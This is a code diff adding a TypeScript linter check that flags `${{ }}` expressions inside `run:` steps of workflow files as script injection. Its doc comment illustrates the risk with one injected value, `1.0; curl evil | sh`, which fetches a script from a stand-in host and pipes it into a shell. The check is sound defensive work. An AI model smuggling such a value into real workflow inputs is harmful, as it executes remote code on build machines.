@@ -311,3 +311,32 @@ export function checkActionMetadata(file: string, text = readFileSync(file, 'utf
   }
   return out;
 }
+
+// ── expressions in shells ─────────────────────────────────────────────────────────────────────
+
+/**
+ * No `${{ … }}` inside a `run:` script: the runner pastes the value into the script before the
+ * shell reads it, so an input like `1.0; curl evil | sh` runs (script injection). Values reach
+ * a shell through `env:` only.
+ */
+export function checkScriptInjection(file: string, text = readFileSync(file, 'utf8')): Finding[] {
+  const y = new Yaml(file, text);
+  const out: Finding[] = [];
+  const jobs = y.get(y.doc.contents as Node, 'jobs');
+  for (const job of y.keys(jobs?.node ?? null)) {
+    const steps = y.get(job.node, 'steps');
+    if (!steps?.node || !('items' in steps.node)) continue;
+    for (const step of (steps.node as unknown as { items: Node[] }).items) {
+      const run = y.get(step, 'run');
+      if (typeof run?.value === 'string' && run.value.includes('${{')) {
+        out.push({
+          file,
+          line: run.line,
+          kind: 'script-injection',
+          message: `job ${job.key}: \${{ }} inside run: pass the value through env: and use "$NAME"`,
+        });
+      }
+    }
+  }
+  return out;
+}
